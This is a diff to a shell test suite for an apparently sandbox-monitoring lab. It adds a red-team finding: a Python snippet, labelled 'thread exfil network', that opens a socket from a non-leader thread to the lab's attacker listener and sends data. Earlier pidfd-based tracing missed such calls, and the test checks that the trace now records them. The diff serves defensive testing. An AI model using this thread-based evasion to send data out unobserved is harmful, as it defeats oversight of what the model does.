@@ -177,6 +177,18 @@ libc = ctypes.CDLL(None, use_errno=True)
 libc.mount(b"B" * 60, b"/mnt/target", b"proc", 0, None)
 libc.mount(b"/dev/sda1", b"C" * 80, b"ext4", 0, None)'
 
+# 5: connect() from a thread that is not the group leader: its TID is no
+# pidfd_open() target without PIDFD_THREAD, and the lab once let every such
+# call go on unobserved (the red team's thr.py)
+snippet thread exfil network 'import os, socket, threading
+port = int(os.environ["LAB_ATTACKER"].split(":")[2].split("/")[0])
+def go():
+    s = socket.socket()
+    s.connect(("127.0.0.1", port))
+    s.sendall(b"x"); s.close()
+    print("sent from", threading.get_native_id() != os.getpid() and "a thread")
+t = threading.Thread(target=go); t.start(); t.join()'
+
 # the lab's listening ports (attacker listener, small internet): PID's
 lab_ports() { ss -ltnpH 2>/dev/null | awk -v p="pid=$1," '$0 ~ p { n = split($4, a, ":"); print a[n] }' | sort -u; }
 
@@ -352,6 +364,12 @@ for who in root nobody; do
 	got=$(py "[e['call'] for e in t if e['call'].startswith('mount(')]" <<<"$j" 2>&1)
 	expect_eq "$who: mount() with a 60- and an 80-byte string: their own first 47 bytes, then ..." "$got" \
 		"['mount(\"$(printf 'B%.0s' {1..47})...\", \"/mnt/target\", \"proc\", 0)', 'mount(\"/dev/sda1\", \"$(printf 'C%.0s' {1..47})...\", \"ext4\", 0)']"
+
+	# ---- round 3, finding 5: a thread's connect() is made by the lab ----
+	j=$(cd "$T" && lab run "$T/thread.py" --on isolation --json)
+	got=$(py "d['output'].strip(), [(e['result'], e['by']) for e in t if e['call'].startswith('connect(')]" <<<"$j" 2>&1)
+	expect_eq "$who: connect() from a thread: the trace shows the kernel's answer" "$got" \
+		"('sent from a thread', [('0', \"the lab's attacker listener, host network (No-network off)\")])"
 
 	# ---- LAB_TRACE=0: the filter answers itself, nothing listed ----
 	j=$(cd "$T" && LAB_TRACE=0 lab run host-takeover --on all --json)
